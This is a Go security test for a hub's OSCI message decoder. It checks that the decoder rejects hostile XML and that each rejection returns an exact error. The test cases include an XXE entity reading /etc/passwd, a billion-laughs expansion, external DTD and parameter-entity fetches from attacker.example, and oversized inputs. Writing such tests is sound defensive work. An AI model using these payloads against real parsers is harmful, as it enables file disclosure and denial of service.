package osci_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/dxhub/dxhub/internal/xmlsec"
	"github.com/dxhub/dxhub/osci"
)

func hostileMIME(envelope string) []byte {
	return []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b1\"; type=\"text/xml\"\r\n\r\n" +
		"--b1\r\nContent-Type: text/xml; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\nContent-ID: <osci@dxhub>\r\n\r\n" +
		envelope + "\r\n--b1--\r\n")
}

// TestSecurityOSCIDecode sends each attack through osci.Decode, the entry
// point of every OSCI message the hub receives (intermediary responses,
// fetched deliveries, the test intermediary's orders), and checks the exact
// error.
func TestSecurityOSCIDecode(t *testing.T) {
	defer xmlsec.SetLimits(xmlsec.DefaultLimits())
	xmlsec.SetLimits(xmlsec.Limits{MaxDepth: 20, MaxElements: 100, MaxAttrBytes: 256, MaxTextBytes: 1024})
	env := func(body string) string {
		return `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>` + body + `</soap:Body></soap:Envelope>`
	}
	for _, tc := range []struct {
		name, envelope, want string
	}{
		{"XXE external entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + env("&x;"),
			"osci: not an OSCI 1.2 message: xml refused: DOCTYPE and entity declarations are not allowed"},
		{"billion laughs", `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>` + env("&lol2;"),
			"osci: not an OSCI 1.2 message: xml refused: DOCTYPE and entity declarations are not allowed"},
		{"external DTD", `<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/evil.dtd">` + env(""),
			"osci: not an OSCI 1.2 message: xml refused: DOCTYPE and entity declarations are not allowed"},
		{"parameter entities", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>` + env(""),
			"osci: not an OSCI 1.2 message: xml refused: DOCTYPE and entity declarations are not allowed"},
		{"processing instruction", `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?>` + env(""),
			"osci: not an OSCI 1.2 message: xml refused: processing instruction <?xml-stylesheet?> is not allowed"},
		{"nesting beyond limits.xml.maxDepth", env(strings.Repeat("<a>", 19) + strings.Repeat("</a>", 19)),
			"osci: not an OSCI 1.2 message: xml refused: nesting deeper than 20"},
		{"elements beyond limits.xml.maxElements", env(strings.Repeat("<a/>", 99)),
			"osci: not an OSCI 1.2 message: xml refused: more than 100 elements"},
		{"attribute beyond limits.xml.maxAttrBytes", env(`<a b="` + strings.Repeat("x", 257) + `"/>`),
			"osci: not an OSCI 1.2 message: xml refused: attribute b longer than 256 bytes"},
		{"text beyond limits.xml.maxTextBytes", env(`<a>` + strings.Repeat("x", 1025) + `</a>`),
			"osci: not an OSCI 1.2 message: xml refused: text longer than 1024 bytes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := osci.Decode(hostileMIME(tc.envelope), osci.DecodeOptions{})
			if !errors.Is(err, xmlsec.ErrHostileXML) || err.Error() != tc.want {
				t.Fatalf("got  %v\nwant %s", err, tc.want)
			}
		})
	}
}
